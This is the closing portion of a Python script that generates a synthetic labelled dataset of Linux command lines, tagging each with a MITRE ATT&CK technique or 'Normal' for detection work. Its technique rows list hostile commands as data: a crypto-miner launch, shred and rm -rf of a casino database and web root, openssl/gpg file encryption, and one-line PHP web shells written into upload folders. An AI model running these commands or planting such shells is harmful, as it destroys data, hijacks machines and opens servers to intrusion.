    ("T1201", ["cat /etc/login.defs", "cat /etc/pam.d/common-password", "chage -l alice"]),
    ("T1496.001", ["./xmrig -o 10.35.108.66:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1"]),
    ("T1485", ["shred -n 3 -z /opt/casino/casino.db", "rm -rf /var/www/html"]),
    ("T1486", ["openssl enc -aes-256-cbc -salt -in /opt/casino/casino.db -out /opt/casino/casino.db.enc -k f4k3k3y",
               "gpg -c --batch --passphrase f4k3k3y /home/dealer/Documents/payouts.csv"]),
    ("T1489", ["systemctl stop apache2", "service mysql stop"]),
    ("T1505.003", [
        "bash -c echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/uploads/.s.php",
        "cp /tmp/shell.php /var/www/html/wp-content/uploads/cache.php",
        "sh -c cd /var/www/html/uploads; ls -la",
    ]),
    (NORMAL, [
        ("ls", 600), ("ls -la", 380), ("ls -l", 160), ("clear", 130), ("top", 70), ("df -h", 60),
        ("git status", 55), ("ps aux", 50), ("/usr/sbin/cron -f", 48),
        ("/bin/sh -c cd / && run-parts --report /etc/cron.hourly", 44), ("apt-get update", 60),
        ("less /var/log/syslog", 40), ("crontab -l", 12), ("date", 35), ("free -h", 30),
        ("/usr/lib/openssh/sftp-server", 28), ("sudo apt-get update", 26), ("vim notes.txt", 24),
        "vim /etc/nginx/sites-available/default", "nano README.md", "apt-get upgrade -y", "apt install -y htop",
        "git pull", "git log --oneline -n 20", "git commit -m fix typo in footer", "git diff",
        "python3 manage.py runserver", "python3 manage.py migrate", "pip install -r requirements.txt",
        "npm install", "npm run build", "htop", "du -sh /var/lib/docker", "tail -f /var/log/nginx/access.log",
        "journalctl -u nginx --since today", "systemctl status nginx", "sudo systemctl restart nginx",
        "docker ps", "docker compose up -d", "docker logs -f web", "make", "make test",
        "gcc -Wall -O2 -o app main.c", "cat README.md", "grep -rn TODO src", "man tar", "tmux attach -t main",
        "screen -r", "cp config.example.yml config.yml", "mkdir -p build", "rm -rf build",
        "tar -xzf release-2.4.1.tar.gz", "unzip assets.zip", "sort -u access.log", "wc -l data.csv",
        "head -n 20 data.csv", "cal", "ssh-add -l", "mysql -u app -p", "passwd", "awk -F, {print $2} data.csv",
        "cut -d, -f1,3 users.csv", "python3 -c print(\"hello, world\")", "sed -i s/localhost/0.0.0.0/g config.yml",
        "find . -name *.pyc -delete", "pytest -q", "go build ./...", "cargo build --release", "node server.js",
        "vim /home/alice/.vimrc", "ping -c 4 10.35.108.1", "curl -I http://127.0.0.1:8080/health",
        "sudo systemctl restart apache2", "less /etc/nginx/nginx.conf", "python3 -m venv .venv",
        "pip3 install --user requests", "ssh-keygen -t ed25519 -C alice@workstation", "scp report.pdf bob@10.35.108.23:",
        "rsync -av src/ build/src/", "git checkout -b feature/login-form", "git push origin main",
        "/bin/sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "/usr/sbin/logrotate /etc/logrotate.conf", "apt-cache policy nginx", "dpkg -l",
    ]),
]


def technique_label(tid):
    return NORMAL if tid == NORMAL else f"{tid}: {NAMES[tid]}"


def build_rows():
    rng = random.Random(SEED)
    rows = []  # [proctitle, technique, parent id, count]
    seen = set()
    for tid, commands in ROWS:
        for entry in commands:
            command, count = entry if isinstance(entry, tuple) else (entry, None)
            if count is None:
                count = min(TAIL_CAP, int(rng.paretovariate(TAIL_ALPHA)))
            key = (command, tid)
            assert key not in seen, f"duplicate row {key}"
            seen.add(key)
            rows.append([command, technique_label(tid), tid.split(".")[0], count])
    rows_per_parent = {}
    for r in rows:
        rows_per_parent[r[2]] = rows_per_parent.get(r[2], 0) + 1
    out = []
    for command, technique, parent, count in rows:
        if parent == NORMAL:
            grouped = NORMAL
        elif rows_per_parent[parent] >= MIN_ROWS_PER_GROUP:
            grouped = f"{parent}: {NAMES[parent]}"
        else:
            grouped = Z999
        out.append((command, technique, grouped, count))
    return out


def validate(rows):
    assert len(rows) >= 400, len(rows)
    total = sum(r[3] for r in rows)
    groups = {}
    for command, technique, grouped, count in rows:
        assert command and technique and grouped, (command, technique)
        assert "\n" not in command and "\r" not in command and command == command.strip(), command
        assert isinstance(count, int) and count >= 1, (command, count)
        n, mass = groups.get(grouped, (0, 0))
        groups[grouped] = (n + 1, mass + count)
    assert len(groups) - 1 >= 16, sorted(groups)  # >= 15 grouped techniques + Z999, plus Normal
    assert all(n >= 5 for n, _ in groups.values()), groups
    share = groups["T1082: System Information Discovery"][1] / total
    assert 0.80 <= share <= 0.85, share
    return groups, total


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    rows = build_rows()
    groups, total = validate(rows)
    with open(os.path.join(here, "commands.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["proctitle", "technique", "technique_grouped", "count"])
        w.writerows(rows)
    if "--table" in sys.argv:
        print("| technique_grouped | rows | count mass | share of count |")
        print("|---|---:|---:|---:|")
        for g, (n, mass) in sorted(groups.items(), key=lambda kv: (-kv[1][1], kv[0])):
            print(f"| {g} | {n} | {mass:,} | {100 * mass / total:.2f} % |")
        print(f"| **total** | **{len(rows)}** | **{total:,}** | 100 % |")
        fine = {r[1] for r in rows}
        print(f"\nfine techniques (incl. Normal): {len(fine)}")


if __name__ == "__main__":
    main()
